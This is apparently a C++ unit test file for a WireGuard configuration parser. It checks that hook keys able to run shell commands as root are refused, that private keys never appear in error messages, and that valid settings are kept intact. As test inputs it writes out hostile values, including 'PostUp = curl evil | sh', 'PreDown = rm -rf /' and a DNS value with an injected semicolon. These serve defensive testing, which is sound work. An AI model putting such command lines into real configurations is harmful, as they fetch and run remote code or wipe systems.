// The WireGuard text parser: every key that could run code or write a file is refused with
// its line, secrets never appear in an error, and a good configuration keeps every value.
#include <gtest/gtest.h>

#include <string>

#include "daemon/engines/wireguard/wireguard_config_parser.h"

namespace corvane::daemon::engines::wireguard {
namespace {

constexpr const char* kPrivate = "yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=";
constexpr const char* kPublic = "xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=";

std::string config(const std::string& interfaceExtra, const std::string& peerExtra = "") {
  return std::string("[Interface]\nPrivateKey = ") + kPrivate + "\nAddress = 10.66.0.2/32\n" + interfaceExtra +
         "\n[Peer]\nPublicKey = " + kPublic + "\nEndpoint = 192.0.2.1:51820\nAllowedIPs = 0.0.0.0/0\n" + peerExtra;
}

struct Refusal {
  std::string text;
  std::string expected;  // part of the error
};

class WireGuardParserRefuses : public ::testing::TestWithParam<Refusal> {};

TEST_P(WireGuardParserRefuses, NamingTheLine) {
  auto parsed = parseWireGuardConfig(GetParam().text);
  ASSERT_TRUE(std::holds_alternative<std::string>(parsed)) << GetParam().text;
  const auto& error = std::get<std::string>(parsed);
  EXPECT_NE(error.find(GetParam().expected), std::string::npos) << error;
  EXPECT_EQ(error.find(kPrivate), std::string::npos) << "the private key leaked into: " << error;
}

INSTANTIATE_TEST_SUITE_P(
    Injection, WireGuardParserRefuses,
    ::testing::Values(
        Refusal{config("PostUp = curl evil | sh"), "line 4: `PostUp' is refused: it runs a shell command as root (`PostUp = curl evil | sh')"},
        Refusal{config("PreUp = id"), "`PreUp' is refused"},
        Refusal{config("", "PreDown = rm -rf /"), "`PreDown' is refused"},
        Refusal{config("postdown = x"), "`PostDown' is refused"},
        Refusal{config("SaveConfig = true"), "`SaveConfig' is refused"},
        Refusal{config("Table = off"), "unknown key `Table' in [Interface]"},
        Refusal{config("FwMark = 51820"), "unknown key `FwMark'"},
        Refusal{config("ListenPort = 1"), "unknown key `ListenPort'"},
        Refusal{config("", "Foo = bar"), "unknown key `Foo' in [Peer]"},
        Refusal{config("[Include]"), "unknown section `[Include]'"},
        Refusal{config("PrivateKey = nope"), "a second PrivateKey"},
        Refusal{"[Interface]\nPrivateKey = AAAA" + std::string(kPrivate).substr(4, 39) + "x\n", "PrivateKey is not a base64 32-byte key (value not shown)"},
        Refusal{config("", "PresharedKey = tooShort="), "PresharedKey is not a base64 32-byte key (value not shown)"},
        Refusal{config("Address = 10.0.0.1/33"), "Address `10.0.0.1/33'"},
        Refusal{config("DNS = 1.1.1.1, bad;name"), "DNS `bad;name'"},
        Refusal{config("MTU = 100000"), "MTU `100000'"},
        Refusal{config("", "PersistentKeepalive = -1"), "PersistentKeepalive `-1'"},
        Refusal{config("", "Endpoint = 192.0.2.2:1"), "a second Endpoint"},
        Refusal{std::string("[Interface]\nPrivateKey = ") + kPrivate + "\nAddress = 10.0.0.2\n[Peer]\nPublicKey = " + kPublic + "\nEndpoint = host\n", "Endpoint `host' has no :port"},
        Refusal{std::string("[Interface]\nPrivateKey = ") + kPrivate + "\nAddress = 10.0.0.2\n[Peer]\nPublicKey = " + kPublic + "\nEndpoint = [::1:51820\n", "is not [IPv6]:port"},
        Refusal{std::string("[Interface]\nPrivateKey = ") + kPrivate + "\nAddress = 10.0.0.2\n[Peer]\nPublicKey = " + kPublic + "\n", "[Peer] has no Endpoint"},
        Refusal{std::string("[Interface]\nAddress = 10.0.0.2\n[Peer]\n"), "[Interface] has no PrivateKey"},
        Refusal{config("\x1b[2J"), "control character"},
        Refusal{"PrivateKey = x\n", "`PrivateKey' outside a section"},
        Refusal{std::string(kMaxConfigBytes + 1, '#'), "over the limit"}));

TEST(WireGuardParser, KeepsEveryValueOfAGoodConfiguration) {
  auto parsed = parseWireGuardConfig(std::string("# issued by the service\n[Interface]\nPrivateKey = ") + kPrivate +
                                     "\naddress = 10.66.0.2/32, fd00::2/128\nDNS = 10.66.0.1, corp.example\nMTU = 1380\n\n"
                                     "[Peer]\nPublicKey = " + kPublic +
                                     "\nAllowedIPs = 0.0.0.0/0, ::/0\nEndpoint = [2001:db8::1]:51820\nPersistentKeepalive = 25 # keep NAT open\n");
  ASSERT_TRUE(std::holds_alternative<WireGuardConfig>(parsed)) << std::get<std::string>(parsed);
  const auto& c = std::get<WireGuardConfig>(parsed);
  EXPECT_EQ(c.privateKey.base64(), kPrivate);
  ASSERT_EQ(c.addresses.size(), 2u);
  EXPECT_EQ(c.addresses[1].text(), "fd00::2/128");
  ASSERT_EQ(c.dnsServers.size(), 1u);
  EXPECT_EQ(c.dnsServers[0].address(), "10.66.0.1");
  EXPECT_EQ(c.dnsSearchDomains, std::vector<std::string>{"corp.example"});
  EXPECT_EQ(c.mtu, 1380);
  ASSERT_EQ(c.peers.size(), 1u);
  EXPECT_EQ(c.peers[0].publicKey.base64(), kPublic);
  EXPECT_EQ(c.peers[0].endpointHost, "2001:db8::1");
  EXPECT_EQ(c.peers[0].endpointPort, 51820);
  EXPECT_EQ(c.peers[0].persistentKeepalive, 25);
  ASSERT_EQ(c.peers[0].allowedIps.size(), 2u);
  EXPECT_EQ(c.peers[0].allowedIps[1].text(), "::/0");
}

}  // namespace
}  // namespace corvane::daemon::engines::wireguard
